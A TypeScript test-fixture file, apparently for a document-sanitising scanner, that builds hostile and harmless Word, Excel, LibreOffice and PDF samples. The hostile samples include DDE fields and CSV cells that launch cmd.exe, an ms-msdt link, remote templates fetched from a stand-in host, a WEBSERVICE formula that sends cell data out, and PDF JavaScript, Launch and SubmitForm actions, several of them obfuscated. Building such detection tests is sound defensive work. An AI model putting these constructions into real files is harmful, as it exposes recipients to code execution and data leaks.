import {
  archival,
  attached,
  cell,
  compound,
  docx,
  field,
  type MadeFile,
  odt,
  PICTURE,
  packed,
  pdf,
  pdfFrom,
  RELATIONS,
  relation,
  relations,
  SCRIPT,
  stream,
  utf16,
  xlsx,
} from './made-files.ts';

/** Gives the file, its description, and a word of the message that tells its sender what was found. */
type Hostile = [what: string, file: MadeFile, found: string];

const ELSEWHERE = 'http://exemple.invalid/x';
const RELS = 'word/_rels/settings.xml.rels';
const withRelations = (said: string | Uint8Array, path = RELS) => docx('', { parts: { [path]: said } });
const template = relation('attachedTemplate', ELSEWHERE);
const vba = compound('_VBA_PROJECT');

const RELATED: Hostile[] = [
  ['a remote template', withRelations(relations(template)), 'ailleurs'],
  [
    'a relation behind a prefix',
    withRelations(
      `<p:Relationships xmlns:p="http://schemas.openxmlformats.org/package/2006/relationships">${template.replace('<', '<p:')}</p:Relationships>`,
    ),
    'ailleurs',
  ],
  ['a mode behind an entity', withRelations(relations(template.replace('External', 'Ext&#101;rnal'))), 'ailleurs'],
  [
    'a mode behind a declared entity',
    withRelations(`<!DOCTYPE r [<!ENTITY m "External">]>${relations(template.replace('External', '&m;')).slice(56)}`),
    'DTD',
  ],
  ['relations in UTF-16', withRelations(utf16(relations(template))), 'ailleurs'],
  ['relations in a rare encoding', withRelations(relations(template).replace('UTF-8', 'UTF-7')), 'illisible'],
  ['relations named .RELS', withRelations(relations(template), 'word/_RELS/settings.xml.RELS'), 'ailleurs'],
  [
    'a `>` in an attribute before the mode',
    withRelations(relations(template.replace('Id="rId9"', 'Id="a>b"'))),
    'ailleurs',
  ],
  [
    'a second mode behind a prefix',
    withRelations(relations(template.replace('/>', ' p:TargetMode="Internal" xmlns:p="urn:p"/>'))),
    'ailleurs',
  ],
  ['a remote picture', docx('', { links: relation('image', ELSEWHERE) }), 'ailleurs'],
  ['a remote frame', docx('', { links: relation('frame', '\\\\serveur\\partage\\x') }), 'ailleurs'],
  ['a link to a shared folder', docx('', { links: relation('hyperlink', 'file:////serveur/x') }), 'lien'],
  ['a link to a program', docx('', { links: relation('hyperlink', 'ms-msdt:/id PCWDiagnostic') }), 'lien'],
  [
    'a picture of VML that is an address',
    docx(`<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="${ELSEWHERE}"/>`),
    'image ailleurs',
  ],
];

const nested = field('QUOTE 68 68 69');
const WORDS: Hostile[] = [
  ['a field DDEAUTO', docx(field('DDEAUTO c:\\\\cmd.exe "/k calc"')), 'DDEAUTO'],
  ['a field DDE cut into runs', docx(field(' D', 'D', 'E c:\\\\cmd.exe "/k"')), 'DDE'],
  ['a field DDE made by another', docx(field(nested.slice('<w:p>'.length, -'</w:p>'.length), ' c:\\\\cmd.exe')), 'DDE'],
  ['a simple field DDE', docx('<w:fldSimple w:instr=" dde cmd x"/>'), 'DDE'],
  [
    'a field in a header',
    docx('', { parts: { 'word/header1.xml': `<w:hdr xmlns:w="x">${field('INCLUDEPICTURE "http://x"')}</w:hdr>` } }),
    'INCLUDEPICTURE',
  ],
  ['a renamed VBA project', docx('', { parts: { 'word/media/image1.png': vba } }), 'macro'],
  ['a VBA project', docx('', { parts: { 'word/vbaProject.bin': 'x' } }), 'macro'],
  [
    'a VBA project by its kind',
    docx('', { contentTypes: '<Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>' }),
    'macro',
  ],
  ['an object (OLE)', docx('', { parts: { 'word/media/a.dat': compound('Ole10Native') } }), 'OLE'],
  ['a file put in', docx('', { parts: { 'word/Embeddings/a.bin': 'x' } }), 'incorporé'],
  [
    'another document put in',
    docx('<w:altChunk r:id="rId9"/>', { links: relation('aFChunk', 'a.htm', '') }),
    'incorporé',
  ],
  ['a control (ActiveX)', docx('', { links: relation('control', 'activeX/activeX1.xml', '') }), 'ActiveX'],
  ['a ribbon that calls', docx('', { parts: { 'a/b.xml': '<customUI onLoad="x" xmlns="urn:x"/>' } }), 'customUI'],
  ['an add-in of the web', docx('', { links: relation('webextension', 'a.xml', '') }), 'module'],
];

const SHEETS: Hostile[] = [
  ['a cell that runs a program', xlsx(cell("cmd|'/c calc'!A0")), 'DDE'],
  [
    'a link DDE',
    xlsx('', {
      parts: {
        'xl/externalLinks/externalLink1.xml': '<externalLink xmlns="urn:x"><ddeLink ddeService="cmd"/></externalLink>',
      },
    }),
    'DDE',
  ],
  [
    'another workbook',
    xlsx('', {
      parts: {
        'xl/externalLinks/_rels/externalLink1.xml.rels': relations(relation('externalLinkPath', 'file:///C:/a.xlsx')),
      },
    }),
    'ailleurs',
  ],
  ['a cell that calls the web', xlsx(cell('_xlfn.WEBSERVICE("http://x/"&amp;A2)')), 'WEBSERVICE'],
  ['a sheet of macros', xlsx('', { parts: { 'xl/macrosheets/sheet1.xml': '<a/>' } }), 'macro'],
  [
    'a renamed sheet of macros',
    xlsx('', { parts: { 'xl/worksheets/sheet2.xml': '<xm:macrosheet xmlns:xm="urn:x"/>' } }),
    'XLM',
  ],
  [
    'a name run at opening',
    xlsx('', { names: '<definedNames><definedName name="_xlnm.Auto_Open">A1</definedName></definedNames>' }),
    'XLM',
  ],
  [
    'a connection',
    xlsx('', {
      parts: {
        'xl/connections.xml': '<connections xmlns="urn:x"><connection id="1"><dbPr/></connection></connections>',
      },
    }),
    'connexion',
  ],
  [
    'a CSV that runs a program',
    { name: 'a.csv', content: new Uint8Array(Buffer.from("nom;note\nMax;=cmd|' /C calc'!A0\n")) },
    'DDE',
  ],
];

const LISTENER =
  '<office:event-listeners><script:event-listener script:language="ooo:script"/></office:event-listeners>';
const OPEN_DOCUMENTS: Hostile[] = [
  ['a library of Basic', odt('', { 'Basic/Standard/Module1.xml': '<a/>' }), 'macro'],
  ['a script in a folder', odt('', { 'scripts/python/a.py': 'x' }), 'macro'],
  ['a script of an event', odt(LISTENER), 'script'],
  ['a script in the text', odt('<text:script script:language="JavaScript">x</text:script>'), 'script'],
  [
    'a remote picture in LibreOffice',
    odt(`<draw:frame><draw:image xlink:href="${ELSEWHERE}"/></draw:frame>`),
    'ailleurs',
  ],
  [
    'a section from a shared folder',
    odt('<text:section><text:section-source xlink:href="//serveur/a.odt"/></text:section>'),
    'ailleurs',
  ],
  ['a link DDE in LibreOffice', odt('<office:dde-source office:dde-application="soffice"/>'), 'DDE'],
  ['a link that runs a macro', odt('<text:a xlink:href="vnd.sun.star.script:a?language=Basic">x</text:a>'), 'lien'],
  ['an object (OLE) in LibreOffice', odt('<draw:frame><draw:object-ole xlink:href="./a"/></draw:frame>'), 'OLE'],
];

const SPEC = '/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>';
const withAction = (action: string) => pdf('', ['<< /Type /Annot /Subtype /Link /A 5 0 R >>', action]);
const fieldWith = (actions: string) => `<< /FT /Tx /T (somme) /Subtype /Widget /AA << ${actions} >> >>`;
const DOCUMENTS: Hostile[] = [
  ['a script at opening', pdf(`/OpenAction ${SCRIPT}`), 'script'],
  ['a script at opening, its name escaped', pdf('/Open#41ction << /S /J#61vaScript /J#53 (x) >>'), 'script'],
  ['a script at opening, in a packed object', pdf('/OpenAction 9 0 R', [packed({ 8: '[1 2]', 9: SCRIPT })]), 'script'],
  ['a script at opening, its kind elsewhere', pdf('/OpenAction << /S 4 0 R /JS (x) >>', ['/JavaScript']), 'script'],
  ['a script of the document', pdf('/Names << /JavaScript << /Names [(a) 4 0 R] >> >>', [SCRIPT]), 'script'],
  [
    'a script of a page',
    pdfFrom([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /AA << /O ${SCRIPT} >> >>`,
    ]),
    'script',
  ],
  [
    'a script of a page that passes for a field',
    pdfFrom([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Parent 2 0 R /T (x) /AA << /C ${SCRIPT} >> >>`,
    ]),
    'script',
  ],
  [
    'the calculation of a field, run at opening too',
    pdf('/OpenAction 5 0 R', [fieldWith('/C 5 0 R'), SCRIPT]),
    'script',
  ],
  ['a script when the mouse comes', pdf('', [fieldWith(`/E ${SCRIPT}`)]), 'script'],
  ['a script after another action', pdf(`/OpenAction << /S /Named /N /NextPage /Next [${SCRIPT}] >>`), 'script'],
  [
    'a script in an older version',
    pdfFrom([`<< /Type /Catalog /OpenAction ${SCRIPT} >>\nendobj\n1 0 obj\n<< /Type /Catalog >>`]),
    'script',
  ],
  [
    'a script behind a comment',
    pdfFrom([`<< /Type /Catalog /OpenAction %>>\n<< /S%\n/JavaScript /JS (x) >> >>`]),
    'script',
  ],
  ['a program started by a link', withAction('<< /S /Launch /F (cmd.exe) >>'), 'Launch'],
  ['answers sent away', withAction('<< /S /SubmitForm /F (http://x) >>'), 'SubmitForm'],
  ['another file, on a server', withAction('<< /S /GoToR /F (\\\\\\\\serveur\\\\x) /D [0 /Fit] >>'), 'GoToR'],
  ['an address opened at opening', pdf(`/OpenAction << /S /URI /URI (${ELSEWHERE}) >>`), 'de lui-même'],
  ['a link to a file', withAction('<< /S /URI /URI (file:///c:/x.exe) >>'), 'lien'],
  ['a player', pdf('', ['<< /Type /Annot /Subtype /RichMedia >>']), 'RichMedia'],
  ['a program put in', pdf(SPEC, [archival, ...attached('a.exe', 'MZ')]), 'pièce jointe'],
  ['a program put in under the name of data', pdf(SPEC, [archival, ...attached('a.xml', 'MZ')]), 'pièce jointe'],
  ['data put in what is no PDF/A-3', pdf(SPEC, ['<< >>', ...attached('a.xml', '<a/>')]), 'PDF/A-3'],
  [
    'a form (XFA) with a script',
    pdf('/AcroForm << /XFA 4 0 R >>', [
      stream('', '<xdp:xdp xmlns:xdp="urn:x"><event activity="initialize"><script>x</script></event></xdp:xdp>'),
    ]),
    'XFA',
  ],
  [
    'data taken from another file',
    pdf('', ['<< /F (\\\\\\\\serveur\\\\x) /Length 0 >>\nstream\n\nendstream']),
    'autre fichier',
  ],
];

export const HOSTILE: Hostile[] = [...RELATED, ...WORDS, ...SHEETS, ...OPEN_DOCUMENTS, ...DOCUMENTS];

const calculation = '<< /S /JavaScript /JS (AFSimple_Calculate\\("SUM", ["a"]\\);) >>';

/** Holds files that must be kept as they are, each with its description. */
export const HONEST: [what: string, file: MadeFile][] = [
  ['a letter', docx()],
  [
    'a letter with links',
    docx('<w:hyperlink r:id="rId9"/>', {
      links: `${relation('hyperlink', 'https://exemple.fr/a?b=1&amp;c=2')}${relation('hyperlink', 'mailto:a@exemple.fr')}${relation('hyperlink', 'Annexe%201.docx')}${relation('image', 'media/image1.png', '')}`,
      parts: { 'word/media/image1.png': PICTURE },
    }),
  ],
  [
    'a letter with fields',
    docx(
      `${field(' PAGE ')}${field('HYPERLINK "https://exemple.fr"')}${field(' = ', nested.slice(5, -6), ' + 1')}${field('MACROBUTTON NoMacro [cliquez]')}`,
    ),
  ],
  [
    'a letter in UTF-16',
    docx('', { parts: { 'customXml/item1.xml': utf16('<?xml version="1.0" encoding="UTF-8"?><a b="é"/>') } }),
  ],
  [
    'a letter with a font drawn by chance',
    docx('', { parts: { 'word/fonts/font1.odttf': Buffer.from('<a\x01\x02\x03') } }),
  ],
  [
    'a drawing in VML that is not well formed',
    docx('', { parts: { 'word/vmlDrawing1.vml': '<xml xmlns:v="urn:x"><v:textbox><br></v:textbox></xml>' } }),
  ],
  [
    'a strict letter',
    docx('', {
      links: relation('hyperlink', 'https://exemple.fr').replace(
        RELATIONS,
        'http://purl.oclc.org/ooxml/officeDocument/relationships',
      ),
    }),
  ],
  [
    'a sheet with formulas',
    xlsx(
      `${cell("SUM('Suivi | 2026'!A1:A9)")}${cell('IF(A1=&quot;a|b&quot;,1,2)')}${cell('HYPERLINK(&quot;https://exemple.fr&quot;)')}`,
    ),
  ],
  [
    'a sheet with a name',
    xlsx('', {
      names:
        '<definedNames><definedName name="_xlnm.Print_Area">\'Suivi | 2026\'!$A$1:$B$9</definedName></definedNames>',
    }),
  ],
  [
    'a CSV with bars and minus signs',
    { name: 'a.csv', content: new Uint8Array(Buffer.from('note;total\n- un | deux !;-3\n=SOMME(A1);+33 1 | 02\n')) },
  ],
  [
    'a letter of LibreOffice with a picture',
    odt(
      '<draw:frame><draw:image xlink:href="Pictures/a.png"/></draw:frame><text:a xlink:href="https://exemple.fr">x</text:a>',
      { 'Pictures/a.png': PICTURE },
    ),
  ],
  [
    'a letter of LibreOffice with an equation of old',
    odt('<draw:frame><draw:object xlink:href="./Object 1"/></draw:frame>', {
      'Object 1/content.xml':
        '<!DOCTYPE math:math PUBLIC "-//OpenOffice.org//DTD Modified W3C MathML 1.01//EN" "math.dtd"><math:math xmlns:math="urn:x"/>',
    }),
  ],
  [
    'a table of LibreOffice that adds',
    odt('<table:table><table:table-cell table:formula="ooow:&lt;A1&gt;|&lt;B1&gt;"/></table:table>'),
  ],
  [
    'a letter made from a template',
    odt('', {
      'meta.xml':
        '<office:document-meta xmlns:office="urn:x" xmlns:meta="urn:m" xmlns:xlink="urn:l"><meta:template xlink:href="../Modeles/lettre.ott"/></office:document-meta>',
    }),
  ],
  ['a PDF', pdf('/OpenAction [3 0 R /Fit] /PageMode /UseOutlines')],
  ['a PDF with links', withAction('<< /S /URI /URI (https://exemple.fr/) >>')],
  ['a PDF with a link cut in the middle of a letter', withAction('<< /S /URI /URI <FEFF0061 00> >>')],
  [
    'a form that computes',
    pdf('/AcroForm << /Fields [4 0 R] /CO [4 0 R] >>', [
      fieldWith(`/C 5 0 R /K ${calculation} /F ${calculation} /V ${calculation}`),
      calculation,
    ]),
  ],
  [
    'a form that computes, packed',
    pdf('/AcroForm << /Fields [8 0 R] >>', [
      packed({
        8: '<< /FT /Tx /T (a) /Kids [9 0 R] /AA 10 0 R >>',
        9: '<< /Type /Annot /Subtype /Widget /Parent 8 0 R >>',
        10: '<< /C 11 0 R >>',
        11: calculation,
      }),
    ]),
  ],
  [
    'an invoice (PDF/A-3 with XML)',
    pdf(SPEC, [
      archival,
      ...attached(
        'factur-x.xml',
        '<?xml version="1.0" encoding="UTF-8"?><rsm:CrossIndustryInvoice xmlns:rsm="urn:x"/>',
      ),
    ]),
  ],
  ['a PDF/A-3 with JSON', pdf(SPEC, [archival, ...attached('donnees.json', '{"a":1}')])],
  [
    'a form (XFA) that computes',
    pdf('/AcroForm << /XFA [(template) 4 0 R] >>', [
      stream('', '<template xmlns="urn:x"><calculate><script>1+1</script></calculate></template>'),
    ]),
  ],
  [
    'a PDF that speaks of scripts',
    pdf('/Info << /Title (/OpenAction << /S /JavaScript >>) >>', [stream('', '(/S /JavaScript /JS \\(x\\)) Tj')]),
  ],
  ['a PDF cut short', { name: 'a.pdf', content: new Uint8Array(Buffer.from('%PDF-1.7\n1 0 obj\n')) }],
  ['a picture', { name: 'a.png', content: new Uint8Array(PICTURE) }],
];
